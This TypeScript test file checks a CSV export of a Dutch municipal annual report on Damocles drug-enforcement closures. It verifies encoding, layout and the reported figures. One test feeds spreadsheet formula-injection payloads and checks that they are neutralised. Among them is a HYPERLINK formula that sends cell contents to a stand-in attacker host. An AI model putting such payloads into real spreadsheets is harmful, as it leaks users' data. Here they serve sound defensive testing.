import { alleTabellen, type Jaarverslag } from '../model/jaarverslag';
import { voorbeeldJaarverslag } from '../test-support/voorbeeld-jaarverslag';
import { csvCel } from './csv-cel';
import { jaarverslagAlsCsv } from './jaarverslag-csv';

/** Reads the CSV back as a spreadsheet would: `;`-separated, "…" quoted, CRLF lines. */
function leesCsv(csv: string): string[][] {
  const rijen: string[][] = [];
  let rij: string[] = [];
  let cel = '';
  let gequoot = false;
  for (let i = 0; i < csv.length; i++) {
    const teken = csv[i];
    if (gequoot && teken === '"' && csv[i + 1] === '"') {
      cel += '"';
      i++;
    } else if (teken === '"') {
      gequoot = !gequoot;
    } else if (!gequoot && teken === ';') {
      rij.push(cel);
      cel = '';
    } else if (!gequoot && teken === '\r' && csv[i + 1] === '\n') {
      rijen.push([...rij, cel]);
      rij = [];
      cel = '';
      i++;
    } else {
      cel += teken;
    }
  }
  return rijen;
}

describe('the report as CSV', () => {
  const verslag = voorbeeldJaarverslag();
  const csv = jaarverslagAlsCsv(verslag);
  const rijen = leesCsv(csv.slice(1));

  it('starts with a UTF-8 byte order mark, so Excel reads "–" and "ë" right; semicolons and CRLF like the other exports', () => {
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(rijen[0]).toEqual(['Jaarverslag', 'Kerkrade (GM0928)']);
    expect(rijen).toContainEqual(['Bekend op', '2021-01-14']);
  });

  it('has a section per table with the same rows and figures as the model, and the figures as reported then beside a changed column', () => {
    for (const { tabel } of alleTabellen(verslag)) {
      const begin = rijen.findIndex((rij) => rij.length === 1 && rij[0] === tabel.titel);
      expect(begin).toBeGreaterThan(0);
      const koppen = rijen[begin + 1];
      expect(koppen[0]).toBe(tabel.rijkop);
      tabel.rijen.forEach((rij, r) => {
        const regel = rijen[begin + 2 + r];
        expect(regel[0]).toBe(rij.kop);
        for (const kolom of tabel.kolommen) {
          const cel = rij.cellen[kolom.sleutel];
          expect(regel[koppen.indexOf(kolom.kop)]).toBe(cel === undefined ? '' : cel.waarde === null ? 'n.v.t.' : String(cel.waarde));
        }
      });
      // After the rows: the footnotes, then an empty line.
      const na = rijen.slice(begin + 2 + tabel.rijen.length);
      tabel.voetnoten.forEach((voetnoot, i) => expect(na[i][0]).toMatch(new RegExp(`^${i + 1}\\. ${voetnoot.tekst.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`)));
      expect(na[tabel.voetnoten.length]).toEqual(['']);
    }
    const damocles = rijen.findIndex((rij) => rij[0] === 'Damoclesbeleid 1-1-2020 t/m 31-12-2020');
    expect(rijen[damocles + 1]).toEqual(['Maatregel', 'softdrugs', 'softdrugs (zoals bekend op 2021-01-14)', 'harddrugs', 'attributen', 'totalen', 'totalen (zoals bekend op 2021-01-14)']);
    expect(rijen[damocles + 2]).toEqual(['Sluitingsbesluit', '30', '31', '10', '0', '40', '41']);
    expect(rijen[damocles + 3]).toEqual(['Waarschuwing', '2', '2', 'n.v.t.', '8', '10', '10']);
    expect(rijen[damocles + 4]).toEqual(['Ontvangen rapportages', '', '', '', '', '37', '37']);
    expect(rijen[damocles + 7][0]).toBe(
      '1. Met 1 verminderd: het sluitingsbesluit van zaak zaak-sd-3 is later herroepen (beslissing op bezwaar 4 maart 2021). (bij: Sluitingsbesluit – softdrugs; Sluitingsbesluit – totalen)',
    );
  });

  it('has the trends as years × series', () => {
    const begin = rijen.findIndex((rij) => rij[0] === 'Trend: Sluitingsbesluiten per categorie');
    expect(rijen.slice(begin + 1, begin + 5)).toEqual([
      ['Jaar', 'softdrugs', 'harddrugs', 'attributen'],
      ['2018', '22', '6', '1'],
      ['2019', '35', '9', '0'],
      ['2020', '30', '10', '0'],
    ]);
  });

  it('never hands a spreadsheet a formula: a text starting with = + - @ tab or CR gets an apostrophe', () => {
    const kwaad: Jaarverslag = {
      ...verslag,
      hoofdstukken: [
        {
          ...verslag.hoofdstukken[0],
          tabellen: [
            {
              id: 'kwaad',
              titel: '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
              rijkop: '+rij',
              kolommen: [{ sleutel: 'a', kop: '@SUM(A1:A9)' }],
              rijen: [
                { kop: '-2+3', cellen: { a: { waarde: '=1+1' } } },
                { kop: '\tcmd', cellen: { a: { waarde: -4 } } },
                { kop: '\r=x', cellen: { a: { waarde: 'gewoon' } } },
              ],
              voetnoten: [],
            },
          ],
          trends: [],
        },
      ],
    };
    const terug = leesCsv(jaarverslagAlsCsv(kwaad).slice(1));
    const begin = terug.findIndex((rij) => rij[0].includes('HYPERLINK'));
    expect(terug.slice(begin, begin + 5)).toEqual([
      ['\'=HYPERLINK("http://evil.example/?x="&A1;"klik")'],
      ["'+rij", "'@SUM(A1:A9)"],
      ["'-2+3", "'=1+1"],
      ["'\tcmd", '-4'],
      ["'\r=x", 'gewoon'],
    ]);
    for (const rij of terug) for (const cel of rij) expect(cel).not.toMatch(/^[=+@\t\r]/);
  });

  it('writes numbers as a Dutch spreadsheet reads them and quotes only where needed', () => {
    expect([csvCel(1.5), csvCel(-4), csvCel(null), csvCel(undefined), csvCel('a;b'), csvCel('zei "ja"')]).toEqual(['1,5', '-4', 'n.v.t.', '', '"a;b"', '"zei ""ja"""']);
  });
});
